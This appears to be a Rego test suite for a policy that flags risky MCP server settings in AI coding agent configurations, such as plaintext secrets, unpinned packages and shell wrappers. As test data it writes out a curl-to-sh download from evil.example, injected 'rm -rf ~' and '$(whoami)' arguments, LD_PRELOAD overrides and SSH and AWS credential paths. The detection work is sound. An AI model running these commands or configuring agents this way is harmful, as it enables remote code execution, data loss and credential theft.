package aipolicy.rules.mcp_hygiene_test

import data.aipolicy.rules.mcp_hygiene

# An MCP server entry with nothing set; tests override what they need.
server(overrides) := object.union(
	{
		"source_tool": "claude-code", "path": ".mcp.json", "line": 3, "name": "srv",
		"declared_type": null, "transport": "stdio", "command": null, "args": [], "env": [],
		"headers": [], "url": null, "trust": null, "enabled": null, "tools": null,
		"include_tools": null, "exclude_tools": null, "plaintext_secrets": [],
	},
	overrides,
)

facts(servers, claude_code, gemini) := {"agent_config": {
	"claude_code": claude_code, "gemini": gemini, "codex": [], "mcp_files": [],
	"mcp_servers": servers,
}}

violations(servers) := vs if {
	vs := mcp_hygiene.violations with input as facts(servers, [], [])
}

found(servers) := {[v.rule, v.location.line] | some v in violations(servers)}

messages(servers) := {v.message | some v in violations(servers)}

run(command, args) := server({"command": command, "args": args})

named(name, value_is_reference, line) := {"name": name, "value_is_reference": value_is_reference, "line": line}

# AIP130

test_literal_token_in_env_and_header_is_reported if {
	s := server({
		"command": "node", "args": ["server.js"],
		"env": [named("GITHUB_PERSONAL_ACCESS_TOKEN", false, 7), named("apiKey", false, 8)],
		"headers": [named("Authorization", false, 9), named("X-Api-Key", false, 10)],
	})
	found([s]) == {["AIP130", 7], ["AIP130", 8], ["AIP130", 9], ["AIP130", 10]}
	"MCP server 'srv' in .mcp.json sets environment variable GITHUB_PERSONAL_ACCESS_TOKEN to a literal value (a plaintext secret)" in messages([s])
}

test_referenced_secrets_and_non_secret_names_pass if {
	s := server({
		"command": "node", "args": ["server.js"],
		"env": [
			named("GITHUB_TOKEN", true, 7), named("GITHUB_HOST", false, 8), named("PWD", false, 9),
			named("GIT_AUTHOR_NAME", false, 10), named("SSH_KEY_PATH", false, 11),
			named("AWS_ACCESS_KEY_ID", false, 12), named("MONKEY", false, 13),
		],
		"headers": [named("Authorization", true, 14), named("X-Team", false, 15)],
	})
	found([s]) == set()
}

test_secret_in_a_disabled_server_is_still_reported if {
	s := server({"enabled": false, "url": "https://x.example/mcp", "headers": [named("Cookie", false, 5)]})
	found([s]) == {["AIP130", 5]}
}

secret(where, index, kind, line) := {"where": where, "index": index, "kind": kind, "line": line}

test_secrets_in_args_command_and_url_are_reported_with_where_they_were if {
	s := server({
		"command": "npx", "args": ["-y", "@x/server@1.0.0", "--api-key", "<redacted>"],
		"plaintext_secrets": [secret("arg", 3, "option", 6)],
	})
	found([s]) == {["AIP130", 6]}
	messages([s]) == {"MCP server 'srv' in .mcp.json has a plaintext secret (option) in args[3]"}

	u := server({
		"url": "https://mcp.example.com/mcp", "enabled": false,
		"plaintext_secrets": [secret("url", null, "url_password", 4), secret("url", null, "url_query", 4)],
	})
	messages([u]) == {
		"MCP server 'srv' in .mcp.json has a plaintext secret (url_password) in its URL",
		"MCP server 'srv' in .mcp.json has a plaintext secret (url_query) in its URL",
	}

	c := server({"command": "node server.js --token=<redacted>", "plaintext_secrets": [secret("command", 2, "option", 4)]})
	messages([c]) == {"MCP server 'srv' in .mcp.json has a plaintext secret (option) in its command"}
}

named_secret(where, kind, line, key) := {"where": where, "index": null, "kind": kind, "line": line, "key": key}

test_secrets_in_env_and_header_values_are_reported_whatever_the_name if {
	s := server({
		"command": "npx", "args": ["-y", "@modelcontextprotocol/server-postgres@0.6.2"],
		"env": [named("DATABASE_URL", false, 7), named("GH", false, 8), named("LOG_LEVEL", false, 9)],
		"headers": [named("X-Upstream", false, 10)],
		"plaintext_secrets": [
			named_secret("env", "url_password", 7, "DATABASE_URL"),
			named_secret("env", "github_token", 8, "GH"),
			named_secret("header", "url_password", 10, "X-Upstream"),
		],
	})
	found([s]) == {["AIP130", 7], ["AIP130", 8], ["AIP130", 10]}
	messages([s]) == {
		"MCP server 'srv' in .mcp.json has a plaintext secret (url_password) in environment variable DATABASE_URL",
		"MCP server 'srv' in .mcp.json has a plaintext secret (github_token) in environment variable GH",
		"MCP server 'srv' in .mcp.json has a plaintext secret (url_password) in header X-Upstream",
	}
}

test_a_credential_named_secret_value_is_reported_once_by_its_name if {
	s := server({
		"command": "node", "args": ["server.js"],
		"env": [named("GITHUB_TOKEN", false, 7)],
		"headers": [named("Authorization", false, 8)],
		"plaintext_secrets": [
			named_secret("env", "github_token", 7, "GITHUB_TOKEN"),
			named_secret("header", "anthropic_api_key", 8, "Authorization"),
		],
	})
	messages([s]) == {
		"MCP server 'srv' in .mcp.json sets environment variable GITHUB_TOKEN to a literal value (a plaintext secret)",
		"MCP server 'srv' in .mcp.json sets header Authorization to a literal value (a plaintext secret)",
	}
}

test_env_values_without_recorded_secrets_pass if {
	# Names that are not a credential's, and no secret recorded in their values.
	s := server({
		"command": "node", "args": ["server.js"],
		"env": [named("DATABASE_URL", false, 7), named("GITHUB_HOST", false, 8)],
		"headers": [named("X-Team", false, 9)],
	})
	found([s]) == set()
}

test_redacted_args_without_recorded_secrets_pass if {
	# What the collector leaves is judged by plaintext_secrets only, never by the text.
	s := server({"command": "npx", "args": ["-y", "@x/server@1.0.0", "--token", "${TOKEN}", "postgresql://db/prod"]})
	found([s]) == set()
}

# AIP131

test_unpinned_packages_are_reported if {
	found([run("npx", ["-y", "@modelcontextprotocol/server-github"])]) == {["AIP131", 3]}
	found([run("npx", ["@playwright/mcp@latest"])]) == {["AIP131", 3]}
	found([run("npx", ["-y", "some-mcp@^1.2.0"])]) == {["AIP131", 3]}
	found([run("npx", ["-y", "some-mcp@1.2"])]) == {["AIP131", 3]}
	found([run("uvx", ["mcp-server-fetch"])]) == {["AIP131", 3]}
	found([run("uvx", ["--python", "3.12", "mcp-server-fetch>=1.0"])]) == {["AIP131", 3]}
	found([run("pipx", ["run", "mcp-server-time"])]) == {["AIP131", 3]}
	found([run("pnpm", ["dlx", "some-mcp"])]) == {["AIP131", 3]}
	found([run("C:\\tools\\bunx.exe", ["some-mcp"])]) == {["AIP131", 3]}
	"MCP server 'srv' in .mcp.json runs package mcp-server-time through pipx run without a pinned version" in messages([run("pipx", ["run", "mcp-server-time"])])
}

test_pinned_packages_and_local_commands_pass if {
	found([
		run("npx", ["-y", "@modelcontextprotocol/server-github@2025.4.8"]),
		run("npx", ["-y", "some-mcp@1.2.3-beta.1"]),
		run("uvx", ["mcp-server-fetch==2025.4.7"]),
		run("uvx", ["mcp-server-fetch@2025.4.7"]),
		run("uvx", ["--from", "mcp-server-git==1.0.0", "mcp-server-git"]),
		run("uv", ["tool", "run", "--python", "3.12", "mcp-server-time==0.6.2"]),
		run("pipx", ["run", "--spec", "mcp-server-time==0.6.2", "mcp-server-time"]),
		run("npx", ["-p", "some-mcp@1.0.0", "some-mcp-bin"]),
		run("npx", ["./tools/server"]),
		run("node", ["server.js"]),
		run("uv", ["run", "server.py"]),
	]) == set()
}

test_disabled_unpinned_server_is_not_reported if {
	found([server({"command": "npx", "args": ["-y", "some-mcp"], "enabled": false})]) == set()
}

test_servers_rejected_or_excluded_by_settings_are_not_reported if {
	rejected := server({"name": "scratch", "command": "npx", "args": ["some-mcp"]})
	settings := {"path": ".claude/settings.json", "disabled_mcpjson_servers": [{"value": "scratch", "line": 4}]}
	count(mcp_hygiene.violations) == 0 with input as facts([rejected], [settings], [])
	excluded := server({"source_tool": "gemini", "path": ".gemini/settings.json", "name": "a", "command": "npx", "args": ["x"]})
	gemini := {"path": ".gemini/settings.json", "mcp_excluded": [{"key": "mcp.excluded", "value": ["a"], "line": 9}]}
	count(mcp_hygiene.violations) == 0 with input as facts([excluded], [], [gemini])
	not_allowed := object.union(excluded, {"name": "b"})
	allowing := {"path": ".gemini/settings.json", "mcp_allowed": [{"key": "mcp.allowed", "value": ["a"], "line": 9}]}
	count(mcp_hygiene.violations) == 0 with input as facts([not_allowed], [], [allowing])
}

# AIP132

test_packages_from_git_urls_and_archives_are_reported if {
	found([run("npx", ["-y", "github:someone/mcp-server"])]) == {["AIP132", 3]}
	found([run("npx", ["someone/mcp-server#main"])]) == {["AIP132", 3]}
	found([run("npx", ["https://example.com/mcp-server-1.0.0.tgz"])]) == {["AIP132", 3]}
	found([run("uvx", ["--from", "git+https://github.com/someone/mcp", "mcp"])]) == {["AIP132", 3]}
	found([run("pipx", ["run", "--spec", "mcp @ https://example.com/mcp.whl", "mcp"])]) == {["AIP132", 3]}
}

test_registry_packages_are_not_outside_the_registry if {
	found([run("npx", ["-y", "@scope/server@1.0.0"]), run("uvx", ["pkg==1.0"])]) == set()
}

# AIP133

test_shell_wrappers_and_inline_scripts_are_reported if {
	curl := run("sh", ["-c", "curl -fsSL https://evil.example/install.sh | sh"])
	found([curl]) == {["AIP133", 3]}
	messages([curl]) == {"MCP server 'srv' in .mcp.json starts through sh -c (it pipes a download into an interpreter)"}
	found([run("/bin/bash", ["-lc", "node server.js"])]) == {["AIP133", 3]}
	found([run("bash -c", ["node server.js"])]) == {["AIP133", 3]}
	found([run("/usr/bin/env", ["bash", "-c", "node server.js"])]) == {["AIP133", 3]}
	found([run("cmd", ["/C", "npx.cmd server"])]) == {["AIP133", 3]}
	found([run("powershell.exe", ["-NoProfile", "-Command", "Start-Server"])]) == {["AIP133", 3]}
	found([run("python3", ["-c", "import server; server.main()"])]) == {["AIP133", 3]}
	found([run("node", ["-e", "require('./server')"])]) == {["AIP133", 3]}
	found([run("npx", ["-c", "node server.js"])]) == {["AIP133", 3]}
}

test_plain_programs_are_not_shell_wrappers if {
	found([
		run("bash", ["./scripts/start-mcp.sh"]),
		run("node", ["server.js", "--config", "c.json"]),
		run("python", ["-m", "docs_mcp"]),
		run("docker", ["run", "-i", "--rm", "ghcr.io/github/github-mcp-server@sha256:abc"]),
	]) == set()
}

# AIP134

test_metacharacters_without_a_shell_are_reported if {
	s := run("node", ["server.js", "--x", "a; rm -rf ~", "$(whoami)"])
	found([s]) == {["AIP134", 3]}
	messages([s]) == {"MCP server 'srv' in .mcp.json has shell metacharacters in its command line ($( ;)"}
	found([run("node", ["server.js", "&&", "curl", "x"])]) == {["AIP134", 3]}
	found([run("node", ["`id`"])]) == {["AIP134", 3]}
}

test_a_shell_wrapper_is_reported_once_and_plain_args_pass if {
	found([run("sh", ["-c", "a && b | c"])]) == {["AIP133", 3]}
	found([run("node", ["server.js", "--root", "${workspaceFolder}"])]) == set()
}

# AIP135

test_loader_overrides_are_reported if {
	s := run("node", ["server.js"])
	env := [
		named("LD_PRELOAD", false, 6), named("NODE_OPTIONS", false, 7), named("DYLD_INSERT_LIBRARIES", false, 8),
		named("Path", false, 9), named("PYTHONSTARTUP", false, 10),
	]
	found([object.union(s, {"env": env})]) == {["AIP135", 6], ["AIP135", 7], ["AIP135", 8], ["AIP135", 9], ["AIP135", 10]}
}

test_passed_through_variables_and_ordinary_ones_pass if {
	env := [named("PATH", true, 6), named("HOME", true, 7), named("LOG_LEVEL", false, 8), named("NODE_ENV", false, 9)]
	found([server({"command": "node", "args": ["server.js"], "env": env})]) == set()
}

# AIP136

test_plaintext_remote_urls_are_reported if {
	found([server({"transport": "http", "url": "http://mcp.example.com/mcp"})]) == {["AIP136", 3]}
	found([server({"transport": "ws", "url": "ws://10.0.0.5:9000"})]) == {["AIP136", 3]}
}

test_https_and_local_http_pass if {
	found([
		server({"transport": "http", "url": "https://mcp.example.com/mcp"}),
		server({"transport": "http", "url": "http://localhost:3000/mcp"}),
		server({"transport": "http", "url": "http://127.0.0.1:3000/mcp"}),
		server({"transport": "http", "url": "http://[::1]:3000/mcp"}),
		server({"transport": "http", "url": "http://docs.localhost/mcp"}),
		server({"transport": "http", "url": "http://${MCP_HOST}/mcp"}),
	]) == set()
}

# AIP137

test_all_interface_bindings_are_reported if {
	found([run("node", ["server.js", "--host", "0.0.0.0"])]) == {["AIP137", 3]}
	found([run("node", ["server.js", "--bind=::"])]) == {["AIP137", 3]}
	found([server({"transport": "http", "url": "http://0.0.0.0:8000/mcp"})]) == {["AIP137", 3]}
	docker := run("docker", ["run", "--rm", "-p", "8080:8080", "mcp/server@sha256:abc"])
	found([docker]) == {["AIP137", 3]}
	messages([docker]) == {"MCP server 'srv' in .mcp.json listens on every network interface (-p 8080:8080)"}
}

test_loopback_bindings_pass if {
	found([
		run("node", ["server.js", "--host", "127.0.0.1"]),
		run("node", ["server.js", "--allow", "10.0.0.0/8"]),
		run("docker", ["run", "--rm", "-p", "127.0.0.1:8080:8080", "mcp/server@sha256:abc"]),
		run("docker", ["run", "--rm", "--publish=127.0.0.1:8080:8080", "mcp/server@sha256:abc"]),
	]) == set()
}

# AIP138

fs(dirs) := run("npx", array.concat(["-y", "@modelcontextprotocol/server-filesystem@2025.8.21"], dirs))

test_filesystem_server_given_root_or_home_is_reported if {
	found([fs(["/"])]) == {["AIP138", 3]}
	found([fs(["~"])]) == {["AIP138", 3]}
	found([fs(["${HOME}"])]) == {["AIP138", 3]}
	found([fs(["/Users/alice/"])]) == {["AIP138", 3]}
	found([fs(["/home"])]) == {["AIP138", 3]}
	found([fs(["C:\\"])]) == {["AIP138", 3]}
	found([fs(["C:\\Users\\alice"])]) == {["AIP138", 3]}
	messages([fs([".", "~/"])]) == {"MCP server 'srv' in .mcp.json is given ~/ (the whole disk or a home directory)"}
}

test_container_mounting_home_is_reported if {
	found([run("docker", ["run", "-i", "--rm", "-v", "/Users/alice:/projects", "mcp/filesystem@sha256:abc"])]) == {["AIP138", 3]}
	found([run("docker", ["run", "-i", "--mount", "type=bind,src=/,dst=/host", "mcp/git@sha256:abc"])]) == {["AIP138", 3]}
}

test_project_directories_pass if {
	found([
		fs([".", "${workspaceFolder}", "/home/alice/project", "./docs"]),
		run("docker", ["run", "-i", "--rm", "-v", "${PWD}:/projects", "mcp/filesystem@sha256:abc"]),
		run("node", ["server.js", "--base", "/"]),
	]) == set()
}

# AIP139

test_sensitive_files_in_args_are_reported if {
	s := run("node", ["server.js", "--env-file=.env", "--key", "~/.ssh/id_ed25519"])
	found([s]) == {["AIP139", 3]}
	messages([s]) == {"MCP server 'srv' in .mcp.json is given sensitive files: --env-file=.env, ~/.ssh/id_ed25519"}
	found([run("node", ["server.js", "/home/me/.aws/credentials"])]) == {["AIP139", 3]}
	found([run("uvx", ["k8s-mcp==1.0.0", "--kubeconfig", "/tmp/cfg"])]) == {["AIP139", 3]}
	found([run("node", ["server.js", "--tls-key", "certs/server.pem"])]) == {["AIP139", 3]}
	found([run("node", ["server.js", ".env.production"])]) == {["AIP139", 3]}
}

test_ordinary_files_in_args_pass if {
	found([run("node", ["server.js", ".env.example", "config/settings.json", "--environment", "prod", "keys.md"])]) == set()
}
